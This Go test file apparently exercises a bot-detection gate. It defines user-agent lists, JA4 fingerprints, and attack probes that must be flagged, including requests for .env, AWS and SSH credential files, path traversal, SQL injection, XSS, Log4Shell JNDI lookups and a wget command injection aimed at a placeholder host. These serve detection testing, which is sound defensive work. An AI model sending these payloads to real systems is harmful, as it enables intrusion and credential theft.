package gate

import "time"

// declaredAgents declare that they are not a person's browser.
var declaredAgents = []*program{
	tool("curl", "curl/8.18.0"),
	tool("Wget", "Wget/1.25.0"),
	tool("requests", "python-requests/2.33.1"),
	tool("httpx", "python-httpx/0.29.0"),
	tool("aiohttp", "Python/3.14 aiohttp/3.13.2"),
	tool("urllib", "Python-urllib/3.13"),
	tool("Go", "Go-http-client/2.0"),
	tool("axios", "axios/1.13.2"),
	tool("node-fetch", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
	tool("undici", "undici"),
	tool("Java", "Java-http-client/21.0.9"),
	tool("Apache HttpClient", "Apache-HttpClient/5.5 (Java/17.0.17)"),
	tool("LWP", "libwww-perl/6.79"),
	tool("Guzzle", "GuzzleHttp/7"),
	tool("Faraday", "Faraday v2.14.0"),
	tool("HTTPie", "HTTPie/3.2.4"),
	tool("Postman", "PostmanRuntime/7.49.1"),
	tool("reqwest", "reqwest/0.12.24"),
	tool("Dart", "Dart/3.10 (dart:io)"),
	tool("no user agent", ""),
	tool("Scrapy", "Scrapy/2.13.3 (+https://scrapy.org)"),
	tool("sqlmap", "sqlmap/1.9.11#stable (https://sqlmap.org)"),
	tool("Nikto", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
	tool("Nuclei", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
	tool("WPScan", "WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)"),
	tool("zgrab", "Mozilla/5.0 zgrab/0.x"),
	tool("masscan", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
	tool("Apache Bench", "ApacheBench/2.3"),
	tool("k6", "Grafana k6/1.4.0"),
	tool("Googlebot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/144.0.7559.59 Safari/537.36"),
	tool("bingbot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/136.0.0.0 Safari/537.36"),
	tool("GPTBot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.3; +https://openai.com/gptbot)"),
	tool("ClaudeBot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)"),
	tool("PerplexityBot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)"),
	tool("Bytespider", "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)"),
	tool("CCBot", "CCBot/2.0 (https://commoncrawl.org/faq/)"),
	tool("AhrefsBot", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
	tool("facebookexternalhit", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
	tool("UptimeRobot", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
	tool("HeadlessChrome", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/145.0.0.0 Safari/537.36"),
	tool("PhantomJS", "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1"),
}

func declared(t *theatre) outcome {
	var requests []*request
	for i, p := range declaredAgents {
		for _, target := range []string{"/", "/leuchten/pendel"} {
			requests = append(requests, &request{from: home(i), program: p, method: "GET", host: shopSite.host, target: target, header: p.headers(page, "", false),
				status: 200, bytes: 9000, took: 20 * time.Millisecond})
		}
	}
	t.playEach(requests)
	return atLeast(98, requests, every)
}

// damned are requests that are never innocent.
var damned = []struct{ method, target, name, value string }{
	{method: "GET", target: "/.env"},
	{method: "GET", target: "/laravel/.env.production"},
	{method: "GET", target: "/.git/config"},
	{method: "GET", target: "/.git/HEAD"},
	{method: "GET", target: "/shop/.svn/wc.db"},
	{method: "GET", target: "/.aws/credentials"},
	{method: "GET", target: "/.ssh/id_rsa"},
	{method: "GET", target: "/.htpasswd"},
	{method: "GET", target: "/wp-config.php.bak"},
	{method: "GET", target: "/wp-config.php~"},
	{method: "GET", target: "/backup/db.sql.gz"},
	{method: "GET", target: "/actuator/env"},
	{method: "GET", target: "/actuator/heapdump"},
	{method: "GET", target: "/server-status?auto"},
	{method: "POST", target: "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
	{method: "GET", target: "/index.php?page=../../../../etc/passwd"},
	{method: "GET", target: "/download?file=..%2f..%2f..%2f..%2fetc%2fshadow"},
	{method: "GET", target: "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"},
	{method: "GET", target: "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"},
	{method: "GET", target: "/artikel?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"},
	{method: "GET", target: "/artikel?id=1'%20AND%20SLEEP(5)--%20-"},
	{method: "GET", target: "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"},
	{method: "GET", target: "/?x=${jndi:ldap://198.51.100.9/a}"},
	{method: "GET", target: "/boaform/admin/formLogin?username=admin&psd=admin"},
	{method: "GET", target: "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.51.100.9/m"},
	{method: "GET", target: "/", name: "User-Agent", value: "${jndi:ldap://198.51.100.9:1389/Exploit}"},
	{method: "GET", target: "/", name: "User-Agent", value: "() { :; }; /bin/bash -c 'id'"},
	{method: "GET", target: "/", name: "Referer", value: "() { ignored; }; /bin/cat /etc/passwd"},
	{method: "GET", target: "/", name: "X-Api-Version", value: "${jndi:rmi://198.51.100.9/o}"},
	{method: "GET", target: "/", name: "X-Forwarded-For", value: "${${lower:j}ndi:ldap://198.51.100.9/z}"},
}

func damning(t *theatre) outcome {
	var requests []*request
	for i, d := range damned {
		browser := browsers[i%len(browsers)]
		if d.name == "User-Agent" {
			browser = browser.as(d.value)
		}
		header := browser.headers(page, "", false)
		if d.name != "" && d.name != "User-Agent" {
			header = append(header, field{d.name, d.value})
		}
		requests = append(requests, &request{from: home(i), program: browser, method: d.method, host: "www.gaertnerei-linde.test", target: d.target, header: header,
			status: 404, bytes: 300, took: 2 * time.Millisecond})
	}
	t.playEach(requests)
	return atLeast(100, requests, every)
}

// impostors send a browser's user agent and fields through another TLS stack.
var impostors = []struct{ name, ja4 string }{
	{"Python's OpenSSL", "t13d1812h1_85036bcba153_b26ce05bbdd6"},
	{"curl's OpenSSL", "t13d3112h2_e8f1e7e78f70_b26ce05bbdd6"},
	{"Go", "t13d1312h2_f57a46bbacb6_ab7e3b40a677"},
	{"Java", "t13d4907h2_0d8feac7bc37_7395dae3b2f3"},
	{"Node", "t13d5212h1_b262b3658495_8e6e362c5eac"},
	{"rustls", "t13d1010h2_61a7ad8aa9b6_3fcd1a44f3e3"},
	{"GnuTLS", "t13d2809h2_2b729b4bf6f3_36bf25f296df"},
	{"an old Chrome's handshake", "t12d1209h2_c1b5f5e4f8a3_1d37bd780c83"},
	{"Schannel", "t12d190800_d83cc789557e_7af1ed941c26"},
	{"BoringSSL without browser", "t13d1713h1_5b57614c22b0_eca864cca44a"},
}

func impersonators(t *theatre) outcome {
	var requests []*request
	for i, w := range impostors {
		for _, browser := range browsers[:4] {
			p := *browser
			p.name, p.ja4, p.stack = browser.name+" by "+w.name, w.ja4, &stacks[library]
			if w.ja4[8:10] == "h1" || w.ja4[8:10] == "00" {
				p.version = 11
			}
			requests = append(requests, arrival{"www.gaertnerei-linde.test", "/", "", page}.request(home(i), &p))
		}
	}
	t.playEach(requests)
	return atLeast(80, requests, every)
}
